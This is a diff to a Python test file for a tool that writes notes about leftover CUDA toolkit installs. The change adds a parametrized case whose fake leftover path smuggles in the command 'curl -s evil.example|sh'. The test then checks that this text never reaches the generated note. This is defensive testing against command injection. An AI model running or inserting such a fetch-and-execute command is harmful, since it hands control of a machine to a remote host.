@@ -43,8 +43,11 @@ def test_unpackaged_toolkit_is_noted_with_its_uninstaller() -> None:
     assert f"`sudo {UNINSTALLER}`" in note
 
 
-def test_toolkit_without_uninstaller_is_removed_by_hand() -> None:
-    note = only_note(machine(leftovers=frozenset({NVCC})))
+@pytest.mark.parametrize("others", [(), ("/usr/local/cuda-12.6/bin/uninstall_cuda_12.6;curl -s evil.example|sh;",)])
+def test_toolkit_without_uninstaller_is_removed_by_hand(others: tuple[str, ...]) -> None:
+    """A capture may name anything one."""
+    note = only_note(machine(leftovers=frozenset({NVCC, *others})))
+    assert "evil" not in note
     assert "/usr/local/cuda-12.6 and /etc/ld.so.conf.d/cuda-12-6.conf" in note
 
 
